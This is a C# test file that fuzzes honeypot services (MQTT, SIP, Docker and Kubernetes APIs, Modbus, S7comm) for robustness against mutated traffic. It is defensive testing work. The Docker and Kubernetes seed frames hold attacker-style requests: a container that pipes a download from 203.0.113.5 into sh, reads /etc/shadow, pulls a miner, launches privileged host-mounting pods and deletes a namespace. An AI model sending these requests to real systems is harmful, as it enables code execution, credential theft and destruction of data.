using System.Buffers.Binary;
using System.Text;
using Decnet.Core.Honeypots.Docker;
using Decnet.Core.Honeypots.Ics;
using Decnet.Core.Honeypots.Kubernetes;
using Decnet.Core.Honeypots.Mqtt;
using Decnet.Core.Honeypots.Sip;
using Decnet.Tests.Infrastructure;

namespace Decnet.Tests.Honeypots.Fuzzing;

/// <summary>
/// Fuzz campaigns (see <see cref="ProtocolFuzzer"/>) for the stream protocols of the VoIP, IoT, cloud and
/// ICS family; their datagram sides (SIP over UDP, TFTP) have their own garbage tests.
/// </summary>
[Trait("Category", "Integration")]
[Collection(ProcessMeasurementCollection.Name)]
[Trait("Category", TestCategories.Isolated)]
public sealed class IotFamilyFuzzTests
{
    [Fact]
    public Task Mqtt_survives_random_and_mutated_control_packets() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new MqttHoneypotFactory(),
        ValidFrames =
        [
            Mqtt(0x10, [.. MqttString("MQTT"), 0x04, 0xc2, 0x00, 0x3c, .. MqttString("hmi-7"), .. MqttString("operator"), .. MqttString("Pl4nt!")]),
            Mqtt(0x82, [0x00, 0x01, .. MqttString("plant/#"), 0x00]),
            Mqtt(0x30, [.. MqttString("plant/pump1/cmd"), .. "STOP"u8]),
            Mqtt(0x32, [.. MqttString("plant/valve2/cmd"), 0x00, 0x02, .. "OPEN"u8]),
            Mqtt(0xa2, [0x00, 0x03, .. MqttString("plant/#")]),
            [0xc0, 0x00],
            [0xe0, 0x00],
        ],
        RealClient = async target =>
        {
            var sub = await RealClient.RunAsync("mosquitto_sub", ["-h", target.Address.ToString(), "-p", target.Port, "-t", "$SYS/broker/version", "-C", "1", "-W", "10"]);
            Assert.True(sub.ExitCode == 0, sub.StdErr);
            Assert.StartsWith("mosquitto version", sub.StdOut, StringComparison.Ordinal);
        },
    });

    private static byte[] MqttString(string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        return [(byte)(bytes.Length >> 8), (byte)bytes.Length, .. bytes];
    }

    /// <summary>A control packet: type and flags, the variable-length remaining length, the rest.</summary>
    private static byte[] Mqtt(byte header, byte[] rest)
    {
        var length = new List<byte>();
        var remaining = rest.Length;
        do
        {
            var digit = (byte)(remaining % 128);
            remaining /= 128;
            length.Add(remaining > 0 ? (byte)(digit | 0x80) : digit);
        }
        while (remaining > 0);
        return [header, .. length, .. rest];
    }

    [Fact]
    public Task Sip_over_tcp_survives_random_and_mutated_requests() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new SipHoneypotFactory(),
        ValidFrames =
        [
            Sip("OPTIONS sip:100@decky SIP/2.0", string.Empty),
            Sip("REGISTER sip:decky SIP/2.0", string.Empty),
            Sip("REGISTER sip:decky SIP/2.0", string.Empty,
                "Authorization: Digest username=\"100\", realm=\"asterisk\", nonce=\"1a2b3c4d\", uri=\"sip:decky\", response=\"0123456789abcdef0123456789abcdef\", algorithm=MD5"),
            Sip("INVITE sip:200@decky SIP/2.0", "v=0\r\no=- 1 1 IN IP4 198.51.100.7\r\ns=-\r\nc=IN IP4 198.51.100.7\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\n", "Content-Type: application/sdp"),
            Sip("ACK sip:200@decky SIP/2.0", string.Empty),
            Sip("BYE sip:200@decky SIP/2.0", string.Empty),
        ],
        RealClient = async target =>
        {
            var ping = await RealClient.RunAsync("sipsak", ["-vv", "--transport", "tcp", "-s", $"sip:{target.Address}:{target.Port}"]);
            Assert.Contains("SIP/2.0 200 OK", ping.StdOut + ping.StdErr, StringComparison.Ordinal);
        },
    });

    private static byte[] Sip(string requestLine, string body, params string[] headers)
    {
        var method = requestLine[..requestLine.IndexOf(' ', StringComparison.Ordinal)];
        var text = new StringBuilder()
            .Append(requestLine).Append("\r\n")
            .Append("Via: SIP/2.0/TCP 198.51.100.7:5060;branch=z9hG4bK776asdhds\r\n")
            .Append("From: <sip:100@decky>;tag=1928301774\r\n")
            .Append("To: <sip:100@decky>\r\n")
            .Append("Call-ID: a84b4c76e66710@198.51.100.7\r\n")
            .Append("CSeq: 1 ").Append(method).Append("\r\n")
            .Append("Contact: <sip:100@198.51.100.7:5060;transport=tcp>\r\n")
            .Append("User-Agent: friendly-scanner\r\n");
        foreach (var header in headers)
        {
            text.Append(header).Append("\r\n");
        }
        text.Append("Content-Length: ").Append(Encoding.UTF8.GetByteCount(body)).Append("\r\n\r\n").Append(body);
        return FuzzFrames.Ascii(text.ToString());
    }

    [Fact]
    public Task Docker_api_survives_random_and_mutated_requests() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new DockerApiHoneypotFactory(),
        ValidFrames =
        [
            Http("GET /_ping"),
            Http("GET /v1.43/version"),
            Http("GET /v1.43/containers/json?all=1"),
            Http("POST /v1.43/containers/create?name=miner", """{"Image":"alpine:3.18","Cmd":["sh","-c","wget -qO- http://203.0.113.5/x | sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}"""),
            Http("POST /v1.43/containers/miner/start", string.Empty),
            Http("POST /v1.43/containers/miner/exec", """{"Cmd":["cat","/etc/shadow"],"AttachStdout":true}"""),
            Http("POST /v1.43/images/create?fromImage=xmrig%2Fxmrig&tag=latest", string.Empty),
        ],
        RealClient = async target =>
        {
            var config = Directory.CreateTempSubdirectory("dnt-docker-cli-");
            try
            {
                var version = await RealClient.RunAsync("/usr/bin/docker", ["--config", config.FullName, "-H", $"tcp://{target.Address}:{target.Port}", "version", "--format", "{{.Server.Version}}"]);
                Assert.True(version.ExitCode == 0, version.StdErr);
                Assert.Equal("24.0.7", version.StdOut.Trim());
            }
            finally
            {
                config.Delete(recursive: true);
            }
        },
    });

    [Fact]
    public Task Kubernetes_api_survives_random_and_mutated_requests_inside_and_outside_tls() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new KubernetesApiHoneypotFactory(),
        Port = KubernetesApiHoneypot.TlsPort,
        Tls = true,
        Sessions = 80,
        ValidFrames =
        [
            Http("GET /version"),
            Http("GET /api/v1/namespaces/kube-system/secrets", authorization: "Basic YWRtaW46YWRtaW4="),
            Http("GET /api/v1/pods", authorization: "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6ZGVmYXVsdDpkZWZhdWx0In0.c2ln"),
            Http("POST /api/v1/namespaces/default/pods", """{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}""",
                authorization: "Basic YWRtaW46YWRtaW4="),
            Http("POST /api/v1/namespaces/default/pods/x/exec?command=sh&command=-c&command=id", string.Empty, authorization: "Basic YWRtaW46YWRtaW4="),
            Http("DELETE /api/v1/namespaces/production", authorization: "Basic YWRtaW46YWRtaW4="),
        ],
        RealClient = async target =>
        {
            var version = await RealClient.RunAsync("curl", ["-sk", "--max-time", "20", "-u", "admin:admin", $"https://{target.Address}:{target.Port}/version"]);
            Assert.Contains("\"gitVersion\"", version.StdOut, StringComparison.Ordinal);
        },
    });

    /// <summary>An HTTP/1.1 request; a body, even empty, gets its Content-Length and a JSON type.</summary>
    private static byte[] Http(string requestLine, string? body = null, string? authorization = null)
    {
        var text = new StringBuilder().Append(requestLine).Append(" HTTP/1.1\r\nHost: decky\r\nUser-Agent: Go-http-client/1.1\r\n");
        if (authorization is not null)
        {
            text.Append("Authorization: ").Append(authorization).Append("\r\n");
        }
        if (body is not null)
        {
            text.Append("Content-Type: application/json\r\nContent-Length: ").Append(Encoding.UTF8.GetByteCount(body)).Append("\r\n");
        }
        return FuzzFrames.Ascii(text.Append("\r\n").Append(body).ToString());
    }

    [Fact]
    public Task Modbus_survives_random_and_mutated_frames() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new ConpotHoneypotFactory(),
        Port = 502,
        ValidFrames =
        [
            Modbus(1, [0x03, 0x00, 0x00, 0x00, 0x0a]),
            Modbus(2, [0x04, 0x00, 0x00, 0x00, 0x04]),
            Modbus(3, [0x01, 0x00, 0x00, 0x00, 0x10]),
            Modbus(4, [0x2b, 0x0e, 0x01, 0x00]),
            Modbus(5, [0x06, 0x00, 0x01, 0x00, 0x2a]),
            Modbus(6, [0x10, 0x00, 0x00, 0x00, 0x02, 0x04, 0x00, 0x01, 0x00, 0x02]),
            Modbus(7, [0x05, 0x00, 0x03, 0xff, 0x00]),
        ],
        RealClient = async target =>
        {
            var read = await RealClient.RunAsync("mbpoll", ["-1", "-0", "-o", "5", "-p", target.Port, "-t", "4", "-r", "0", "-c", "2", target.Address.ToString()]);
            Assert.True(read.ExitCode == 0, read.StdOut + read.StdErr);
        },
    });

    /// <summary>An MBAP header (transaction, protocol 0, length, unit 1) and the PDU.</summary>
    private static byte[] Modbus(ushort transaction, byte[] pdu)
    {
        var frame = new byte[7 + pdu.Length];
        BinaryPrimitives.WriteUInt16BigEndian(frame, transaction);
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(4), (ushort)(pdu.Length + 1));
        frame[6] = 1;
        pdu.CopyTo(frame, 7);
        return frame;
    }

    [Fact]
    public Task S7comm_survives_random_and_mutated_tpkt_frames() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new ConpotHoneypotFactory(),
        Port = 102,
        ValidFrames =
        [
            // COTP connection request to rack 0 slot 2, S7 setup communication, then SZL reads 0x001c and 0x0011.
            [3, 0, 0, 22, 17, 0xe0, 0, 0, 0, 1, 0, 0xc1, 2, 1, 0, 0xc2, 2, 1, 2, 0xc0, 1, 10],
            [3, 0, 0, 25, 2, 0xf0, 0x80, 0x32, 1, 0, 0, 0, 0, 0, 8, 0, 0, 0xf0, 0, 0, 1, 0, 1, 1, 0xe0],
            [3, 0, 0, 33, 2, 0xf0, 0x80, 0x32, 7, 0, 0, 0, 1, 0, 8, 0, 8, 0, 1, 0x12, 4, 0x11, 0x44, 1, 0, 0xff, 9, 0, 4, 0, 0x1c, 0, 1],
            [3, 0, 0, 33, 2, 0xf0, 0x80, 0x32, 7, 0, 0, 0, 2, 0, 8, 0, 8, 0, 1, 0x12, 4, 0x11, 0x44, 1, 0, 0xff, 9, 0, 4, 0, 0x11, 0, 1],
        ],
        RealClient = async target =>
        {
            var scan = await RealClient.RunAsync("nmap", ["-sT", "-Pn", "-n", "-p", target.Port, "--script", "s7-info", target.Address.ToString()], timeout: TimeSpan.FromMinutes(3));
            Assert.Contains("System Name:", scan.StdOut, StringComparison.Ordinal);
        },
    });
}
